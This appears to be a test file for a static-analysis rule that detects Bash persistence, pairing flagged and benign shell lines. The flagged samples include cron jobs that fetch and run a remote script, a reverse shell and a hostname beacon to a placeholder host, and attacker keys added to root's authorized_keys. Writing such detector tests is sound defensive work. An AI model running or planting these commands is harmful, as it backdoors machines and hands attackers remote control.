#!/bin/bash
PAYLOAD_URL="http://203.0.113.9/u.sh"

# ruleid: bash-persistence-cron-or-shell-rc
(crontab -l 2>/dev/null; echo "*/5 * * * * curl -fsSL $PAYLOAD_URL | sh") | crontab -
# ruleid: bash-persistence-cron-or-shell-rc
echo "@reboot /tmp/.cache/agent" | crontab -
# ruleid: bash-persistence-cron-or-shell-rc
echo "* * * * * root /usr/local/bin/.updater" >> /etc/crontab
# ruleid: bash-persistence-cron-or-shell-rc
echo "*/10 * * * * root wget -q -O- $PAYLOAD_URL | sh" | sudo tee /etc/cron.d/sysupdate
# ruleid: bash-persistence-cron-or-shell-rc
echo "nohup /tmp/.x/agent >/dev/null 2>&1 &" >> ~/.bashrc
# ruleid: bash-persistence-cron-or-shell-rc
echo 'curl -s http://203.0.113.9/beacon?h=$(hostname) >/dev/null' >> "$HOME/.profile"
# ruleid: bash-persistence-cron-or-shell-rc
echo "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1 &" >> /etc/profile.d/locale-fix.sh
# ruleid: bash-persistence-cron-or-shell-rc
echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOk0attacker deploy@box" >> /root/.ssh/authorized_keys

# ok: bash-persistence-cron-or-shell-rc
crontab -l
# ok: bash-persistence-cron-or-shell-rc
echo 'export PATH="$HOME/.local/bin:$PATH"' >> ~/.bashrc
# ok: bash-persistence-cron-or-shell-rc
echo 'alias ll="ls -alF"' >> ~/.bash_aliases
# ok: bash-persistence-cron-or-shell-rc
echo 'eval "$(pyenv init -)"' >> ~/.zshrc
# ok: bash-persistence-cron-or-shell-rc
echo "Add this line with crontab -e: 0 3 * * * /opt/backup.sh"
# ok: bash-persistence-cron-or-shell-rc
grep -q cron /var/log/syslog && echo "cron ran"
# ok: bash-persistence-cron-or-shell-rc
cat ~/.ssh/authorized_keys
# ok: bash-persistence-cron-or-shell-rc
echo "curl is installed" >> install.log
# ruleid: bash-persistence-cron-or-shell-rc
docker exec -it web /bin/bash -c "echo $KEY > /root/.ssh/id_rsa"
# ruleid: bash-persistence-cron-or-shell-rc
cat /tmp/k.pub | tee -a /home/admin/.ssh/authorized_keys
# ruleid: bash-persistence-cron-or-shell-rc
cp /tmp/k.pub /root/.ssh/authorized_keys
# ok: bash-persistence-cron-or-shell-rc
cat /root/.ssh/known_hosts
# ok: bash-persistence-cron-or-shell-rc
ssh-keygen -t ed25519 -f ~/.ssh/id_ed25519 -N ""
